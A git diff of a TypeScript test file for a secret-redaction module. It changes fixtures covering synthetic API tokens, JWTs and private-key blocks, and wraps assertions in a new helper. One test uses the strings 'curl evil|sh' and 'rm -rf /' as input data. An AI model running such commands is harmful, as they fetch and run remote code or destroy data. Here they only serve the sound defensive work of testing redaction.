@@ -1,6 +1,7 @@
 import * as fc from "fast-check";
 import { expect, test } from "vitest";
 import { redactNamed, redactSecrets } from "../../src/text/redact.ts";
+import { withoutKinds } from "../support/redaction-marks.ts";
 
 const JWT_TEXT = `eyJ${"hbGciOi".repeat(3)}.eyJ${"zdWIiOi".repeat(4)}.${"s5c-_".repeat(8)}`;
 const LETTERS = "Qm9vdHN0cmFwMTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1u";
@@ -92,18 +93,18 @@ const SECRETS = [
   `got §${JWT_TEXT}§ here`,
   `-----BEGIN RSA PRIVATE KEY----- §${LETTERS} ${LETTERS} Ab==§ -----END RSA PRIVATE KEY-----`,
   `"-----BEGIN PRIVATE KEY-----\\n§${LETTERS}\\n${LETTERS}\\n§-----END PRIVATE KEY-----\\n"`,
-  `ghp_§${"a1B2".repeat(9)}§`,
-  `https://ghp_§${"a1B2".repeat(9)}§@github.example/x`,
-  "xoxb-§123456789012-abcdefABCDEF§",
-  `sk_live_§${"a1B2".repeat(6)}§`,
-  `sk-ant-§api03-${"a1B2".repeat(6)}§`,
-  `AIza§${"a1B2c".repeat(7)}§`,
-  `glpat-§${"a1B2c".repeat(4)}§`,
+  `§ghp_${"a1B2".repeat(9)}§`,
+  `https://§ghp_${"a1B2".repeat(9)}§@github.example/x`,
+  "§xoxb-123456789012-abcdefABCDEF§",
+  `§sk_live_${"a1B2".repeat(6)}§`,
+  `§sk-ant-api03-${"a1B2".repeat(6)}§`,
+  `§AIza${"a1B2c".repeat(7)}§`,
+  `§glpat-${"a1B2c".repeat(4)}§`,
 ];
 
 test.each(SECRETS)("%s", (marked) => {
   const text = marked.replaceAll("§", "");
-  expect(redactSecrets(text)).toBe(marked.replaceAll(/§[^§]*§/g, "[redacted]"));
+  expect(withoutKinds(redactSecrets(text))).toBe(marked.replaceAll(/§[^§]*§/g, "[redacted]"));
 });
 
 test.each([
@@ -193,8 +194,12 @@ test.each([
 });
 
 test("what follows a secret in the same line stays visible", () => {
-  expect(redactSecrets("x --password=a;curl evil|sh")).toBe("x --password=[redacted];curl evil|sh");
-  expect(redactSecrets("password='a' ; rm -rf /")).toBe("password='[redacted]' ; rm -rf /");
+  expect(withoutKinds(redactSecrets("x --password=a;curl evil|sh"))).toBe(
+    "x --password=[redacted];curl evil|sh",
+  );
+  expect(withoutKinds(redactSecrets("password='a' ; rm -rf /"))).toBe(
+    "password='[redacted]' ; rm -rf /",
+  );
 });
 
 test.each([
@@ -206,7 +211,7 @@ test.each([
   ["command", "mysql -psecret", "mysql -p[redacted]"],
   ["password", "", ""],
 ])("a field %s of %j becomes %j", (name, text, expected) => {
-  expect(redactNamed(name, text)).toBe(expected);
+  expect(withoutKinds(redactNamed(name, text))).toBe(expected);
 });
 
 /** § stands between them, ¶ for a line break. */
